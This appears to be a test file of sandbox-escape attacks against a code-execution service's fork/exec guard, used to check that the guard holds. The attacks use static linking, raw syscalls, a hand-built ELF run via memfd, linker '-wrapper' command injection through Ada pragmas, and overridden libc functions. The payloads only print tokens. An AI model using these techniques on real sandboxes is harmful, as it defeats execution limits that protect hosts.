/** Tries to make a build return a program without the guard, or one that the build did not create. */
import { ada, adaMain, c } from './lib/programs.js';
import { held, type Attack } from './lib/attack.js';
import { post } from '../helpers/client.js';

/** -static in every place for a switch. */
const STATIC = Object.fromEntries(
  ['Builder', 'Compiler', 'Binder', 'Linker', 'linker', 'Global', 'Main', ''].map((name) => [
    name,
    ['-static', '-largs', '-static', '-Wl,-static', '--static', '-static-pie', '-g'],
  ]),
);
/** A static program has no loader address; reported before main, so that it also works in Ada. */
const LOOK = (token: string) => `#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <sys/auxv.h>
#include <sys/syscall.h>
#include <unistd.h>
__attribute__((constructor)) static void look(void) {
  if (getauxval(AT_BASE) == 0) dprintf(1, "through ${token} a static binary\\n");
  if (syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0) == 0) { dprintf(1, "through ${token} another process\\n"); usleep(300000); _exit(0); }
}
`;
/** A system call without the C library. */
const CALL =
  'static long call(long number, long a, long b, long c) { long result; __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return result; }';

/**
 * A static x86_64 executable that prints `words`, with no byte above 127, so that it can be sent as text.
 * It has a header, one segment, and the calls write(1, words) and exit(0).
 */
function executableAsText(words: string): string {
  const bytes = Buffer.alloc(0x100);
  const code = [
    0x6a,
    1,
    0x58,
    0x6a,
    1,
    0x5f,
    0x68,
    0x00,
    0x01,
    0x40,
    0x00,
    0x5e,
    0x6a,
    words.length,
    0x5a,
    0x0f,
    5,
    0x6a,
    60,
    0x58,
    0x6a,
    0,
    0x5f,
    0x0f,
    5,
  ];
  Buffer.from('\x7fELF\x02\x01\x01').copy(bytes);
  for (const [at, value] of [
    [0x10, 2],
    [0x12, 62],
    [0x14, 1],
    [0x18, 0x400078],
    [0x20, 0x40],
    [0x34, 0x40],
    [0x36, 0x38],
    [0x38, 1],
    [0x40, 1],
    [0x44, 5],
    [0x50, 0x400000],
    [0x58, 0x400000],
    [0x60, 0x100 + words.length],
    [0x68, 0x100 + words.length],
    [0x70, 0x1000],
  ] as const)
    bytes.writeUInt32LE(value, at);
  bytes.set(code, 0x78);
  return bytes.toString('latin1') + words;
}

export const attacks: Attack[] = [
  c(
    'static by switches',
    'Asks for a static program by each package and switch, so that nothing is loaded before it.',
    (_, token) => [
      { basename: 'main.c', contents: `#include "attack.h"\nint main(void) { trying(); }\n` },
      { basename: 'look.c', contents: LOOK(token) },
    ],
    { request: { switches: STATIC } },
  ),
  ada(
    'static by switches, from Ada',
    'Asks the same for a program that gprbuild binds and links for Ada.',
    (_, token) => [
      { basename: 'main.adb', contents: adaMain('   null;') },
      { basename: 'look.c', contents: LOOK(token) },
    ],
    { request: { switches: STATIC } },
  ),
  ada(
    'no loader by Link_With',
    'Has a program linked that begins in a C file without ever being loaded, by the pragma that is Linker_Options under another name.',
    (_, token) => [
      {
        basename: 'main.adb',
        contents: adaMain('   null;', '   pragma Link_With ("-Wl,--no-dynamic-linker -Wl,-e,begin");'),
      },
      {
        basename: 'begin.c',
        contents: `${CALL}\nvoid begin(void) { static const char words[] = "through ${token} nothing is loaded\\n"; call(1, 1, (long)words, sizeof words - 1); call(231, 0, 0, 0); }\n`,
      },
    ],
    { at: 'linker', architecture: 'x64' },
  ),
  ada(
    'a command by Link_With',
    'Has the linker started through a command of its own, by Link_With in a unit of its own.',
    (_, token) => [
      { basename: 'main.adb', contents: adaMain('   null;', '', 'with Other;') },
      {
        basename: 'other.ads',
        contents: `package Other is\n   pragma Elaborate_Body;\n   pragma Link_With ("-wrapper echo,through,${token}");\nend Other;\n`,
      },
      { basename: 'other.adb', contents: 'package body Other is\nend Other;\n' },
    ],
    { at: 'linker' },
  ),
  ada(
    'a command by Linker_Options',
    'Has the linker started through a command of its own, by Linker_Options.',
    (_, token) => [
      {
        basename: 'main.adb',
        contents: adaMain(
          '   null;',
          `   pragma Linker_Options ("-wrapper"); pragma Linker_Options ("echo,through,${token}");`,
        ),
      },
    ],
    { at: 'linker' },
  ),
  c(
    "a static program of the image's",
    'Takes the one static program that the compilers come with into itself, writes it down and executes it.',
    `__asm__(".section .rodata\\n.global taken\\ntaken: .incbin \\"/usr/sbin/ldconfig\\"\\n.global taken_end\\ntaken_end: .byte 0\\n.previous");
     extern const char taken[], taken_end[];
     int main(void) { trying(); int f = open("own", O_CREAT | O_WRONLY, 0755); write(f, taken, taken_end - taken); close(f);
       /* Its complaint begins with the name that it is given. */
       char *words[] = {"through " TOKEN, "--no-such-option", NULL};
       syscall(SYS_execveat, -100, "own", words, none, 0); execve("./own", words, none);
       int memory = syscall(SYS_memfd_create, "own", 0); write(memory, taken, taken_end - taken); syscall(SYS_execveat, memory, "", words, none, 0x1000); }`,
  ),
  c(
    'a program that was sent',
    'Sends an executable as text, copies it into a file that it may execute, and does.',
    (_, token) => [
      {
        basename: 'main.c',
        contents: `#include "attack.h"
     int main(void) { trying(); char bytes[4096]; int f = open("own.txt", O_RDONLY); long n = read(f, bytes, sizeof bytes); char *words[] = {TOKEN, NULL};
       int g = open("own", O_CREAT | O_WRONLY, 0755); write(g, bytes, n); close(g);
       syscall(SYS_execveat, f, "", words, none, 0x1000); syscall(SYS_execveat, -100, "own", words, none, 0); execve("./own", words, none); }`,
      },
      { basename: 'own.txt', contents: executableAsText(`through ${token}\n`) },
    ],
    { architecture: 'x64' },
  ),
  {
    name: 'a program in place of the build',
    tries: 'Sends an executable as text under the names of what is built, so that it is run in its place.',
    architecture: 'x64',
    async attack(world, token) {
      const contents = executableAsText(`through ${token}\n`);
      const source = { basename: 'main.c', contents: 'int main(void) {\n return 0; }\n' };
      for (const [main, basename] of [
        ['main.c', 'main'],
        ['', 'main'],
        ['main', 'main'],
        ['main.x', 'main.x'],
        ['own', 'own'],
        ['main.c', 'main.exe'],
        ['main.c', 'main.out'],
      ] as const) {
        const { status, body } = await post(world.service.base, '/run_program/', {
          mode: 'run',
          name: 'x',
          main,
          files: [source, { basename, contents }],
        });
        held(status === 200 || status === 400, `an answer of ${status}`);
        if (status === 200) await world.collect(token, (body as { identifier: string }).identifier);
        else held(basename !== 'main.exe' && basename !== 'main.out', `${basename} is refused`);
      }
    },
  },
  c(
    'its own start code',
    "Takes the place of the C library's start, and forks without ever having been set up by it.",
    `${CALL}
     int __libc_start_main(void) { static const char words[] = "trying " TOKEN "\\n", child[] = "through " TOKEN " another process\\n"; call(SYS_write, 1, (long)words, sizeof words - 1);
       if (call(SYS_fork, 0, 0, 0) == 0) { call(SYS_write, 1, (long)child, sizeof child - 1); for (volatile long i = 0; i < 200000000; i++); } for (volatile long i = 0; i < 300000000; i++); call(SYS_exit_group, 0, 0, 0); return 0; }
     int main(void) { return 0; }`,
    { architecture: 'x64' },
  ),
  c(
    "functions named as the guard's",
    'Defines what the guard refuses itself, since a program comes before what is preloaded.',
    `pid_t fork(void) { return syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0); }
     int execve(const char *path, char *const *words, char *const *environment) { return syscall(SYS_execve, path, words, environment); }
     int main(int argc, char **argv) { if (argc == 3) { appear(); return 0; } trying(); forked(fork()); char *words[] = {"./main", TOKEN, "again", NULL}; execve("./main", words, none); execv("./main", words); }`,
  ),
  c(
    'files left by the build',
    'Looks for what is neither sent nor its own: objects, lists, files of the tools, which the build must not pass on.',
    `#include <dirent.h>
     int main(void) { trying(); const char *folders[] = {".", "/workspace", "/workspace/tmp", "/tmp", "/dev/shm"}; const char *given[] = {".", "..", "main.c", "main", "main.gpr", "main.adc", "attack.h", "sessions", "tmp", "passwd", "group", ".gvisor"};
       for (int i = 0; i < 5; i++) { DIR *folder = opendir(folders[i]); struct dirent *e; while (folder && (e = readdir(folder))) { int known = 0; for (unsigned j = 0; j < sizeof given / sizeof *given; j++) known |= strcmp(e->d_name, given[j]) == 0; if (!known) through(e->d_name); } } }`,
  ),
];
